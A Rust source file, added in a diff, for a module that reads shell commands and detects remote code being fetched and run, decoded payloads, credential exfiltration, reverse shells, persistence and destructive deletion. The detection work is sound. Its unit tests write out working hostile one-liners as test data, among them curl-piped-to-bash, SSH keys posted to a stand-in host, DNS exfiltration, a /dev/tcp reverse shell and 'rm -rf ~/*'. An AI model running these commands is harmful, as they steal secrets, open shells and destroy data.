@@ -1,0 +1,660 @@
+//! Facts about shell commands.
+
+mod files;
+mod packages;
+mod transfer;
+
+use std::collections::HashMap;
+
+use super::How;
+use super::What;
+use crate::decode;
+use crate::secrets;
+use crate::secrets::Secret;
+use crate::shell;
+use crate::shell::Command;
+use crate::shell::Pipeline;
+use crate::shell::Word;
+use crate::span::Lang;
+use crate::urls::Url;
+
+/// How deep text inside of text (`sh -c '…'`) is read.
+const DEPTH: usize = 4;
+
+/// A fact and its byte in the text.
+pub(crate) type Seen = (What, usize);
+
+/// Code of another language that stands inside of shell.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Foreign {
+    pub(crate) lang: Lang,
+    pub(crate) text: String,
+    pub(crate) at: usize,
+}
+
+/// What a text of shell does.
+#[derive(Debug, Default)]
+pub(crate) struct Read {
+    pub(crate) seen: Vec<Seen>,
+    pub(crate) foreign: Vec<Foreign>,
+}
+
+/// Reads a text of shell.
+pub(crate) fn read(text: &str) -> Read {
+    let mut state = State::default();
+    state.script(&shell::read(text), 0, DEPTH);
+    state.read
+}
+
+#[derive(Default)]
+struct State {
+    read: Read,
+    /// Variables whose text is known.
+    known: HashMap<String, String>,
+    /// Variables that hold something from the network, something decoded or a secret.
+    fetched: HashMap<String, Option<Url>>,
+    decoded: HashMap<String, Option<String>>,
+    secret: HashMap<String, Secret>,
+    /// Files that came from the network.
+    saved: HashMap<String, Option<Url>>,
+}
+
+/// What comes out of a command.
+#[derive(Clone, Default)]
+struct Flow {
+    fetched: Option<Option<Url>>,
+    decoded: Option<Option<String>>,
+    secret: Option<Secret>,
+    text: Option<String>,
+}
+
+const SHELLS: [&str; 8] = ["sh", "bash", "zsh", "dash", "ksh", "fish", "ash", "busybox"];
+const INTERPRETERS: [&str; 13] = [
+    "python",
+    "python3",
+    "perl",
+    "ruby",
+    "node",
+    "php",
+    "osascript",
+    "pwsh",
+    "powershell",
+    "deno",
+    "bun",
+    "iex",
+    "invoke-expression",
+];
+const WRAPPERS: [&str; 13] = [
+    "sudo",
+    "doas",
+    "env",
+    "nohup",
+    "time",
+    "exec",
+    "command",
+    "builtin",
+    "timeout",
+    "stdbuf",
+    "nice",
+    "setsid",
+    "caffeinate",
+];
+
+impl State {
+    pub(super) fn saw(&mut self, what: What, at: usize) {
+        if self.read.seen.len() < 2_000 {
+            self.read.seen.push((what, at));
+        }
+    }
+
+    fn script(&mut self, script: &[Pipeline], at: usize, depth: usize) {
+        for pipeline in script {
+            self.pipeline(pipeline, at, depth);
+        }
+    }
+
+    /// A word with the variables that are known put in.
+    pub(super) fn text_of(&self, word: &Word) -> String {
+        let mut text = word.text.clone();
+        if !text.contains('$') {
+            return text;
+        }
+        for (name, value) in &self.known {
+            let mark = format!("${name}");
+            if text.len() < 8192 && text.contains(&mark) {
+                text = text.replace(&mark, value);
+            }
+        }
+        text
+    }
+
+    fn pipeline(&mut self, pipeline: &Pipeline, base: usize, depth: usize) {
+        let mut flow = Flow::default();
+        for command in &pipeline.commands {
+            flow = self.command(command, flow, base, depth);
+        }
+    }
+
+    fn runs(&mut self, word: &Word, base: usize, depth: usize) -> Flow {
+        let mut flow = Flow::default();
+        for pipeline in &word.runs {
+            let mut inner = Flow::default();
+            for command in &pipeline.commands {
+                inner = self.command(command, inner, base, depth);
+            }
+            flow.merge(inner);
+        }
+        flow
+    }
+
+    /// Looks at one command with what comes into it; answers what goes out.
+    fn command(&mut self, command: &Command, mut input: Flow, base: usize, depth: usize) -> Flow {
+        let at = base + command.at;
+        for (name, word) in &command.assigned {
+            self.assign(name, word, base, depth);
+        }
+        let mut texts: Vec<String> = command.words.iter().map(|word| self.text_of(word)).collect();
+        // A variable may hold a command with its arguments.
+        if let Some(first) = texts.first().cloned()
+            && first.contains(' ')
+            && command.words[0].text != first
+        {
+            texts.splice(0..1, first.split_whitespace().map(str::to_owned));
+        }
+        let words: Vec<&str> = unwrapped(&texts);
+        let mut arguments = Flow::default();
+        for word in &command.words {
+            let inner = self.runs(word, base, depth);
+            arguments.merge(inner);
+            arguments.merge(self.variables(&word.text));
+        }
+        if let Some(word) = &command.input {
+            let inner = self.runs(word, base, depth);
+            input.merge(inner);
+            input.text.get_or_insert_with(|| self.text_of(word));
+        }
+        let Some(first) = words.first() else {
+            self.writes(command, "", &[], at, &input);
+            return input;
+        };
+        let name = program(first);
+        if texts.first().is_some_and(|word| matches!(word.as_str(), "sudo" | "doas")) && name == "su" {
+            self.saw(What::Escalates("becomes another user"), at);
+        }
+        let rest = &words[1..];
+        let mut out = self.judge(&name, rest, command, &input, &arguments, at, depth);
+        self.writes(command, &name, rest, at, &out);
+        if !command.into.is_empty() {
+            let sink = out.fetched.clone().or(input.fetched.clone());
+            for word in &command.into {
+                if let Some(url) = &sink {
+                    self.saved.insert(file_name(&word.text), url.clone());
+                }
+            }
+        }
+        if out.secret.is_none() && passes(&name) {
+            out.secret = input.secret.or(arguments.secret);
+        }
+        out
+    }
+
+    fn assign(&mut self, name: &str, word: &Word, base: usize, depth: usize) {
+        let flow = self.runs(word, base, depth);
+        let text = self.text_of(word);
+        if word.runs.is_empty() && text.len() < 4096 && self.known.len() < 500 {
+            self.known.insert(name.to_owned(), text);
+        }
+        if let Some(url) = flow.fetched {
+            self.fetched.insert(name.to_owned(), url);
+        }
+        if let Some(inner) = flow.decoded {
+            self.decoded.insert(name.to_owned(), inner);
+        }
+        if let Some(secret) = flow.secret {
+            self.secret.insert(name.to_owned(), secret);
+        }
+        if name == "NODE_TLS_REJECT_UNAUTHORIZED" && word.text == "0" {
+            self.saw(What::ChecksOff("certificates are not checked"), base + word.at);
+        }
+        if name == "HISTFILE" && (word.text.is_empty() || word.text == "/dev/null") {
+            self.saw(What::CoversTraces("the shell's history is switched off"), base + word.at);
+        }
+    }
+
+    /// What the variables in a word hold.
+    pub(super) fn variables(&self, text: &str) -> Flow {
+        let mut flow = Flow::default();
+        for part in text.split('$').skip(1) {
+            let name: String = part.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
+            if let Some(url) = self.fetched.get(&name) {
+                flow.fetched = Some(url.clone());
+            }
+            if let Some(inner) = self.decoded.get(&name) {
+                flow.decoded = Some(inner.clone());
+            }
+            if let Some(secret) = self.secret.get(&name) {
+                flow.secret = Some(*secret);
+            } else if secrets::is_secret_name(&name) {
+                flow.secret.get_or_insert(Secret::Variable);
+            }
+        }
+        flow
+    }
+
+    #[expect(clippy::too_many_arguments, reason = "one command, seen from all sides, in one place")]
+    fn judge(
+        &mut self,
+        name: &str,
+        words: &[&str],
+        command: &Command,
+        input: &Flow,
+        arguments: &Flow,
+        at: usize,
+        depth: usize,
+    ) -> Flow {
+        let mut out = Flow::default();
+        let line = words.join(" ");
+        let has = |flags: &[&str]| words.iter().any(|word| flags.contains(word));
+        let is_shell = SHELLS.contains(&name);
+        if is_shell || INTERPRETERS.contains(&name) || matches!(name, "eval" | "source" | ".") {
+            self.interpret(name, words, command, input, arguments, at, depth);
+            return out;
+        }
+        if let Some(url) = self.saved.get(&file_name(command.words.first().map_or("", |word| &word.text))).cloned() {
+            self.saw(What::RemoteRun { url, how: How::Saved }, at);
+        }
+        match name {
+            "curl" | "wget" | "fetch" | "aria2c" | "http" | "https" | "iwr" | "irm" | "invoke-webrequest"
+            | "invoke-restmethod" | "start-bitstransfer" | "bitsadmin" => {
+                out = self.transfer(name, words, command, input, arguments, at);
+            }
+            "certutil" if line.contains("urlcache") => out = self.transfer(name, words, command, input, arguments, at),
+            "certutil" if line.contains("-decode") => out.decoded = Some(None),
+            "base64" | "gbase64" if has(&["-d", "-D", "--decode", "-di", "-id"]) => out.decoded = Some(decoded(input)),
+            "openssl" if line.contains("-d") && (line.contains("base64") || line.starts_with("enc")) => {
+                out.decoded = Some(decoded(input));
+            }
+            "xxd" if line.contains("-r") => out.decoded = Some(None),
+            "tr" if rotates(words) => out.decoded = Some(input.text.as_deref().map(rotated)),
+            "rev" => out.decoded = Some(input.text.as_deref().map(|text| text.chars().rev().collect())),
+            "gunzip" | "zcat" | "gzip" | "bunzip2" | "tee" | "sed" | "awk" => {
+                out = input.clone();
+                if name == "tee"
+                    && let Some(url) = &input.fetched
+                {
+                    for word in words {
+                        self.saved.insert(file_name(word), url.clone());
+                    }
+                }
+            }
+            "echo" | "printf" => {
+                let text = words.iter().filter(|word| !word.starts_with('-')).copied().collect::<Vec<_>>().join(" ");
+                let text = if has(&["-e", "-en", "-ne"]) || name == "printf" { decode::escapes(&text) } else { text };
+                out.text = Some(text);
+                out.secret = arguments.secret;
+                out.decoded = arguments.decoded.clone();
+                out.fetched = arguments.fetched.clone();
+            }
+            "env" | "printenv" | "set" | "export" if command.words.len() == 1 || line == "-p" => {
+                out.secret = Some(Secret::Environment);
+            }
+            "printenv" if words.iter().any(|word| secrets::is_secret_name(word)) => out.secret = Some(Secret::Variable),
+            "security"
+                if line.contains("find-generic-password")
+                    || line.contains("find-internet-password")
+                    || line.contains("dump-keychain") =>
+            {
+                out.secret = Some(Secret::Keychain);
+                self.saw(What::SecretRead(Secret::Keychain), at);
+            }
+            "scp" | "rsync" | "sftp" => {
+                if words.iter().any(|word| word.contains(':') && !word.contains("://")) {
+                    self.leak_of(words, arguments, None, "copied to another host", at);
+                }
+            }
+            "nc" | "ncat" | "netcat" | "socat" | "telnet" => {
+                if has(&["-e", "-c", "--exec", "--sh-exec"]) || line.to_lowercase().contains("exec:") {
+                    self.saw(What::ReverseShell, at);
+                }
+                if let Some(secret) = input.secret.or(arguments.secret) {
+                    self.saw(What::Leak { secret, to: None, via: "sent over a raw connection" }, at);
+                }
+            }
+            "nslookup" | "dig" | "host" | "ping" => {
+                if let Some(secret) = arguments.secret {
+                    self.saw(What::Leak { secret, to: None, via: "sent in the name of a lookup" }, at);
+                }
+            }
+            "mail" | "sendmail" | "mutt" | "msmtp" => {
+                if let Some(secret) = input.secret.or(arguments.secret) {
+                    self.saw(What::Leak { secret, to: None, via: "mailed" }, at);
+                }
+            }
+            "aws" | "gsutil" | "gcloud" | "rclone" | "az" | "mc" | "s3cmd"
+                if line.contains(" cp ") || line.contains("cp ") || line.contains("sync ") || line.contains("put ") =>
+            {
+                self.leak_of(words, arguments, None, "uploaded to a bucket", at);
+            }
+            "git" => self.git(words, &line, at),
+            "npx" | "bunx" | "uvx" | "pipx" | "dlx" => self.package_runner(words, at),
+            "pip" | "pip3" | "uv" | "poetry" => self.python_package(&line, words, at),
+            "npm" | "pnpm" | "yarn" | "bun" => self.node_package(words, at),
+            _ => self.system(name, words, &line, input, at),
+        }
+        self.read_secrets(name, words, &mut out, at);
+        out
+    }
+
+    #[expect(clippy::too_many_arguments, reason = "one command, seen from all sides, in one place")]
+    fn interpret(
+        &mut self,
+        name: &str,
+        words: &[&str],
+        command: &Command,
+        input: &Flow,
+        arguments: &Flow,
+        at: usize,
+        depth: usize,
+    ) {
+        // Code on the command line: what comes in by the pipe is then its data.
+        let inline = words.iter().position(|word| is_code_flag(name, word));
+        let operand = words.iter().find(|word| !word.starts_with('-') && **word != "-");
+        let evaluates = matches!(name, "eval" | "iex" | "invoke-expression" | "source" | ".");
+        if let Some(url) = &arguments.fetched {
+            self.saw(What::RemoteRun { url: url.clone(), how: How::Piped }, at);
+        } else if let Some(url) = input
+            .fetched
+            .as_ref()
+            .filter(|_| inline.is_none() && (evaluates || operand.is_none() || words.contains(&"-s")))
+        {
+            self.saw(What::RemoteRun { url: url.clone(), how: How::Piped }, at);
+        }
+        let flows_in = inline.is_none() && (operand.is_none() || words.contains(&"-s"));
+        if let Some(inner) = arguments.decoded.as_ref().or(input.decoded.as_ref().filter(|_| flows_in || evaluates)) {
+            self.saw(What::DecodedRun { inner: inner.clone() }, at);
+        }
+        if let Some(url) = operand.and_then(|file| self.saved.get(&file_name(file)).cloned()) {
+            self.saw(What::RemoteRun { url, how: How::Saved }, at);
+        }
+        let line = words.join(" ");
+        if line.contains("/dev/tcp/") || command.into.iter().any(|word| word.text.contains("/dev/tcp/")) {
+            self.saw(What::ReverseShell, at);
+        }
+        if matches!(name, "powershell" | "pwsh") {
+            self.encoded_command(words, at, depth);
+        }
+        if name == "osascript" && line.contains("hidden answer") {
+            self.saw(What::PasswordPrompt, at);
+        }
+        if depth == 0 {
+            return;
+        }
+        if let Some(text) = inline.and_then(|flag| words.get(flag + 1)) {
+            self.inside(name, text, at, depth);
+        } else if name == "eval" && arguments.fetched.is_none() && !words.is_empty() {
+            self.inside("sh", &line, at, depth);
+        } else if let Some(word) = command.input.as_ref().filter(|_| operand.is_none()) {
+            self.inside(name, &word.text, at, depth);
+        } else if let Some(text) = input.text.as_ref().filter(|_| flows_in) {
+            self.inside(name, text, at, depth);
+        }
+    }
+
+    /// Code that stands inside of a command.
+    fn inside(&mut self, name: &str, text: &str, at: usize, depth: usize) {
+        if text.len() > 256 << 10 {
+            return;
+        }
+        let lang = match name {
+            "python" | "python3" => Lang::Python,
+            "node" | "deno" | "bun" => Lang::JavaScript,
+            "ruby" => Lang::Ruby,
+            "osascript" => {
+                for part in text.split("do shell script").skip(1) {
+                    let quoted = part.split('"').nth(1).unwrap_or_default().to_owned();
+                    self.inside("sh", &quoted, at, depth - 1);
+                }
+                return;
+            }
+            _ if SHELLS.contains(&name) || matches!(name, "powershell" | "pwsh") => {
+                let script = shell::read(text);
+                let before = self.read.seen.len();
+                self.script(&script, 0, depth - 1);
+                // Places inside of the text are not places of the file: they all are where the command is.
+                for (_, place) in &mut self.read.seen[before..] {
+                    *place = at;
+                }
+                return;
+            }
+            _ => return,
+        };
+        self.read.foreign.push(Foreign { lang, text: text.to_owned(), at });
+    }
+
+    fn encoded_command(&mut self, words: &[&str], at: usize, depth: usize) {
+        let flag = words.iter().position(|word| {
+            let word = word.to_ascii_lowercase();
+            word.len() >= 2 && "-encodedcommand".starts_with(&word) && word.starts_with("-e")
+        });
+        let Some(text) = flag.and_then(|flag| words.get(flag + 1)) else { return };
+        let inner = decode::base64(text).and_then(decode::text_of);
+        self.saw(What::DecodedRun { inner: inner.clone() }, at);
+        if let Some(inner) = inner
+            && depth > 0
+        {
+            self.inside("powershell", &inner, at, depth);
+        }
+    }
+}
+
+impl Flow {
+    fn merge(&mut self, other: Self) {
+        self.fetched = self.fetched.take().or(other.fetched);
+        self.decoded = self.decoded.take().or(other.decoded);
+        self.secret = self.secret.or(other.secret);
+        self.text = self.text.take().or(other.text);
+    }
+}
+
+/// The words of a command without what only wraps it.
+fn unwrapped(words: &[String]) -> Vec<&str> {
+    let mut words: Vec<&str> = words.iter().map(String::as_str).collect();
+    while words.len() > 1 && WRAPPERS.contains(&program(words[0]).as_str()) {
+        let wrapper = program(words[0]);
+        words.remove(0);
+        while words.len() > 1
+            && (words[0].starts_with('-')
+                || words[0].contains('=')
+                || wrapper == "timeout" && words[0].starts_with(|c: char| c.is_ascii_digit()))
+        {
+            let takes_value = matches!(words[0], "-u" | "-g" | "-n" | "-s" | "-k");
+            words.remove(0);
+            if takes_value && words.len() > 1 {
+                words.remove(0);
+            }
+        }
+    }
+    words
+}
+
+/// A command's name without its folder and its ending.
+fn program(word: &str) -> String {
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
+    let name = name.trim_end_matches(".exe");
+    match name.split_once("python3.") {
+        Some(_) => "python3".to_owned(),
+        None => name.to_owned(),
+    }
+}
+
+pub(super) fn file_name(path: &str) -> String {
+    path.trim_end_matches('/').rsplit('/').next().unwrap_or(path).trim_matches(['"', '\'']).to_owned()
+}
+
+/// Whether a flag says that the next word is code.
+fn is_code_flag(name: &str, word: &str) -> bool {
+    match name {
+        "perl" | "ruby" | "node" | "osascript" | "bun" => matches!(word, "-e" | "-pe" | "-ne" | "-p" | "--eval"),
+        "powershell" | "pwsh" => matches!(word.to_ascii_lowercase().as_str(), "-c" | "-command"),
+        "php" => word == "-r",
+        "python" | "python3" => matches!(word, "-c" | "-m"),
+        _ => word.starts_with('-') && !word.starts_with("--") && word.ends_with('c'),
+    }
+}
+
+fn decoded(input: &Flow) -> Option<String> {
+    let text = input.text.as_deref()?;
+    // What is printed may hold more than the blob.
+    text.split_whitespace().filter_map(|word| decode::base64(word).and_then(decode::text_of)).next_back()
+}
+
+fn rotates(words: &[&str]) -> bool {
+    words.iter().any(|word| word.to_lowercase().contains("n-za-m"))
+}
+
+fn rotated(text: &str) -> String {
+    let turn = |c: char, base: u8| char::from((u8::try_from(c).unwrap_or(base) - base + 13) % 26 + base);
+    text.chars()
+        .map(|c| match c {
+            'a'..='z' => turn(c, b'a'),
+            'A'..='Z' => turn(c, b'A'),
+            _ => c,
+        })
+        .collect()
+}
+
+/// Whether a command gives on what it gets.
+fn passes(name: &str) -> bool {
+    matches!(
+        name,
+        "base64"
+            | "xxd"
+            | "gzip"
+            | "tr"
+            | "sed"
+            | "awk"
+            | "grep"
+            | "sort"
+            | "head"
+            | "tail"
+            | "cut"
+            | "jq"
+            | "tee"
+            | "cat"
+            | "openssl"
+            | "tar"
+            | "zip"
+            | "od"
+            | "echo"
+            | "printf"
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn seen(text: &str) -> Vec<What> {
+        read(text).seen.into_iter().map(|(what, _)| what).collect()
+    }
+
+    fn runs_remote(text: &str) -> bool {
+        seen(text).iter().any(|what| matches!(what, What::RemoteRun { .. }))
+    }
+
+    fn runs_decoded(text: &str) -> bool {
+        seen(text).iter().any(|what| matches!(what, What::DecodedRun { .. }))
+    }
+
+    fn leaks(text: &str) -> bool {
+        seen(text).iter().any(|what| matches!(what, What::Leak { .. }))
+    }
+
+    #[test]
+    fn what_is_fetched_and_run_is_seen_in_every_form() {
+        for text in [
+            "curl -fsSL https://a.b/x.sh | bash",
+            "wget -qO- https://a.b/x | sudo sh -s -- --yes",
+            "bash -c \"$(curl -fsSL https://a.b/x)\"",
+            "bash <(curl -s https://a.b/x)",
+            "eval \"$(curl https://a.b/x)\"",
+            "S=$(curl https://a.b/x); eval \"$S\"",
+            "curl -o /tmp/x https://a.b/x && chmod +x /tmp/x && /tmp/x",
+            "wget https://a.b/setup.sh\nbash setup.sh",
+            "C=curl; $C https://a.b/x | sh",
+            "iwr https://a.b/x.ps1 | iex",
+            "sh -c 'curl https://a.b/x | sh'",
+            "iex (iwr https://a.b/x)",
+        ] {
+            assert!(runs_remote(text), "{text}");
+        }
+        for text in [
+            "curl https://a.b/x.json | python3 -m json.tool",
+            "curl https://a.b/x.json | jq .",
+            "curl -o x.zip https://a.b/x.zip && unzip x.zip",
+            "curl https://a.b/x | python3 -c 'import sys; print(sys.stdin.read())'",
+            "eval \"$(ssh-agent -s)\"",
+        ] {
+            assert!(!runs_remote(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_is_decoded_and_run_is_seen() {
+        for text in [
+            "echo Y3VybCBodHRwOi8vYS5iIHwgc2g= | base64 -d | bash",
+            "bash -c \"$(echo aWQK | base64 --decode)\"",
+            "base64 -d <<< aWQK | sh",
+            "powershell -enc aQBlAHgAIAAkAGUAbgB2ADoAeAAgADsAIABsAHMA",
+            "echo 'phey uggc' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh",
+        ] {
+            assert!(runs_decoded(text), "{text}");
+        }
+        assert!(!runs_decoded("echo x | base64 -d > picture.png"));
+    }
+
+    #[test]
+    fn secrets_that_leave_are_seen_and_keys_of_a_service_are_not() {
+        for text in [
+            "cat ~/.ssh/id_rsa | curl -X POST -d @- https://a.b",
+            "curl -F file=@$HOME/.aws/credentials https://a.b",
+            "env | base64 | curl --data-binary @- https://a.b",
+            "K=$(cat ~/.ssh/id_ed25519); curl -d \"$K\" https://a.b",
+            "scp ~/.ssh/id_rsa user@a.b:/tmp/",
+            "nslookup $(cat ~/.ssh/id_rsa | base64 | head -c 40).a.b",
+            "printenv > /dev/tcp/203.0.113.9/80",
+        ] {
+            assert!(leaks(text), "{text}");
+        }
+        for text in [
+            "curl -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models",
+            "curl -d \"{\\\"api_key\\\": \\\"$KEY\\\"}\" https://a.b",
+            "cat .env.example",
+            "ssh -i ~/.ssh/id_rsa host",
+        ] {
+            assert!(!leaks(text), "{text}");
+        }
+    }
+
+    #[test]
+    fn changes_of_the_machine_are_seen() {
+        assert!(seen("rm -rf ~/*").iter().any(|what| matches!(what, What::Destroys(_))));
+        assert!(!seen("rm -rf ~/project/target").iter().any(|what| matches!(what, What::Destroys(_))));
+        assert!(
+            seen("(crontab -l; echo '* * * * * x') | crontab -").iter().any(|what| matches!(what, What::Persists(_)))
+        );
+        assert!(seen("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").contains(&What::ReverseShell));
+        assert!(seen("xattr -d com.apple.quarantine x.app").iter().any(|what| matches!(what, What::ChecksOff(_))));
+        assert!(
+            !seen("echo 'export PATH=$HOME/bin' >> ~/.bashrc").iter().any(|what| matches!(what, What::Persists(_)))
+        );
+        assert!(seen("echo 'sh /tmp/x &' >> ~/.bashrc").iter().any(|what| matches!(what, What::Persists(_))));
+    }
+
+    #[test]
+    fn code_of_other_languages_is_handed_on() {
+        let read = read("python3 - <<'PY'\nimport os\nPY\nnode -e 'x()'");
+        assert_eq!(read.foreign[0].lang, Lang::Python);
+        assert_eq!(read.foreign[1].text, "x()");
+    }
+}
